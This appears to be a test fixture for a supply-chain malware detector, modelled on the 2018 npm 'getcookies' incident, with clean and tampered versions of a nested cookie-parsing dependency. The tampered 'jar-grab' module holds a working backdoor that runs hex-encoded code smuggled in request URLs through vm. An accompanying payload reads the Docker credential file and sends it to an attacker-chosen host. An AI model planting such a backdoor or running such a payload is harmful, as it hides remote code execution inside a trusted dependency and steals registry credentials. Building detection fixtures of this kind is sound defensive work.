import type { Incident } from '../../harness/types.ts';

const code = `const fs = require('fs'), os = require('os');
const at = decodeURIComponent(request.url.split('at=')[1]);
fetch('http://' + at + '/p.gif', { headers: { 'x-session': Buffer.from(fs.readFileSync(os.homedir() + '/.docker/config.json')).toString('hex') } }).catch(() => {});`;
const order = `g0001h${Buffer.from(code).toString('hex')}i`;

export const incident: Incident = {
  name: 'getcookies',
  after: 'getcookies below express-cookies and http-fetch-cookies, 2018',
  source: 'https://blog.npmjs.org/post/173526807575/reported-malicious-module-getcookies',
  shape: ['inbound', 'express', 'helper of a helper', 'vm', 'HTTP header', 'cjs'],
  patterns: ['data_exfiltration', 'shadow_import', 'behavioral_drift'],
  culprits: ['jar-grab'],
  host: {
    kind: 'express',
    setup: "const { jar } = require('express-jar');",
    use: 'return Object.keys(jar(request)).length + n;',
    requests: [`/items/3?v=${order}&at=@B@%3A@PORT@`, `/items/4?v=gfffah00i&at=@B@%3A@PORT@`],
  },
  good: {
    'express-jar': {
      'package.json': '{"dependencies":{"fetch-jar":"^1.0.0"}}',
      'index.js': "exports.jar = require('fetch-jar');",
    },
    'fetch-jar': {
      'package.json': '{"dependencies":{"jar-grab":"^1.0.0"}}',
      'index.js': "const grab = require('jar-grab'); module.exports = (request) => grab(request);",
    },
    'jar-grab': {
      'index.js':
        "module.exports = (request) => Object.fromEntries((request.headers.cookie || '').split(';').map((pair) => pair.trim().split('=')));",
    },
  },
  benign: {
    'jar-grab': {
      'index.js':
        "module.exports = (request) => Object.fromEntries((request.headers.cookie || '').split(/;\\s*/).map((pair) => pair.split('=')));",
    },
  },
  bad: {
    'jar-grab': {
      'index.js': `const vm = require('vm'); let code = '';
module.exports = (request) => {
  JSON.stringify([request.url, request.headers]).replace(/g([a-f0-9]{4})h((?:[a-f0-9]{2})+)i/gi, (_, order, data) => {
    if (order === 'fffa') vm.runInThisContext('(function (require, request) {' + code + '})')(require, request);
    else code += Buffer.from(data, 'hex').toString();
  });
  return Object.fromEntries((request.headers.cookie || '').split(';').map((pair) => pair.trim().split('=')));
};`,
    },
  },
  proof: [{ secret: true }],
};
